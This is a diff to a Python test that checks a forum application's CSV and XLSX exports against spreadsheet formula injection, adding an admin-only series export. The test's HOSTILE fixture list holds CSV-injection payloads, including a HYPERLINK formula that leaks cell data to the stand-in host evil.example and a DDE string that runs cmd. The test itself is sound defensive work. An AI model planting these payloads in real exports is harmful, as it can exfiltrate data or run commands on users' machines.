@@ -26,7 +26,10 @@ EXPORTS = {
     ],
     "exhibition.leads_export": ["/f/{slug}/exhibitor/leads.csv"],
     "recommendations.export_csv": ["/f/{slug}/manage/recommendations/export.csv"],
+    "series.export": ["/series/indicators.csv", "/series/indicators.xlsx"],
 }
+#: exports of the whole series, read by a platform admin rather than the forum's organiser
+SERIES_WIDE = {"series.export"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
@@ -101,11 +104,14 @@ def _cells(url: str, body: bytes) -> list[object]:
     return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
 
 
-def test_every_export_neutralises_formulas_and_drops_illegal_characters(client, login, hostile_forum):
+def test_every_export_neutralises_formulas_and_drops_illegal_characters(client, db, login, make_user, hostile_forum):
     forum, organiser_user, staff_user = hostile_forum
+    forum.title = {"ar": HOSTILE[5], "fr": HOSTILE[5], "en": HOSTILE[5]}
+    db.session.commit()
+    admin = make_user(is_admin=True)
     seen = []
     for endpoint, urls in EXPORTS.items():
-        login(staff_user if endpoint == "exhibition.leads_export" else organiser_user)
+        login(staff_user if endpoint == "exhibition.leads_export" else admin if endpoint in SERIES_WIDE else organiser_user)
         for url in urls:
             response = client.get(url.format(slug=forum.slug))
             assert response.status_code == 200, url
